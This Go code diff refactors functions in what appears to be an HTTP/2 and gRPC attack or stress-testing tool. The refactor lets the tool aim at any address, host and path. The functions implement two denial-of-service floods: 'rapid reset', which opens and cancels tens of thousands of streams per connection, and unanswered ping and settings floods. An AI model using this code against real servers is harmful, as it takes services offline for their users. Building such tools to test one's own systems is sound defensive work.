@@ -68,15 +68,19 @@ func manyHTTP(ctx context.Context, v *target, text string) {
 }
 
 func rapidResets(ctx context.Context, v *target) {
-	message := grpcMessage(manyLimits(1))
+	resetCalls(ctx, v.grpc, "x", takeOne, grpcMessage(manyLimits(1)))
+}
+
+// resetCalls begins calls to a host and takes each back at once.
+func resetCalls(ctx context.Context, address, host, path string, message []byte) {
 	again(ctx, 100*time.Millisecond, func() {
-		h, err := dialHTTP2(ctx, v.grpc, 1<<20, true)
+		h, err := dialHTTP2(ctx, address, 1<<20, true)
 		if err != nil {
 			return
 		}
 		defer h.conn.Close()
 		for range 20_000 {
-			stream := h.open(takeOne)
+			stream := h.openAs(host, path)
 			_ = h.send(stream, message, 16<<10, true)
 			if h.framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil || h.isEnded() {
 				return
@@ -86,9 +90,11 @@ func rapidResets(ctx context.Context, v *target) {
 }
 
 // pingsAndSettings need answers, and the attacker reads none.
-func pingsAndSettings(ctx context.Context, v *target) {
+func pingsAndSettings(ctx context.Context, v *target) { pingAt(ctx, v.grpc) }
+
+func pingAt(ctx context.Context, address string) {
 	again(ctx, 100*time.Millisecond, func() {
-		h, err := dialHTTP2(ctx, v.grpc, 1<<20, false)
+		h, err := dialHTTP2(ctx, address, 1<<20, false)
 		if err != nil {
 			return
 		}
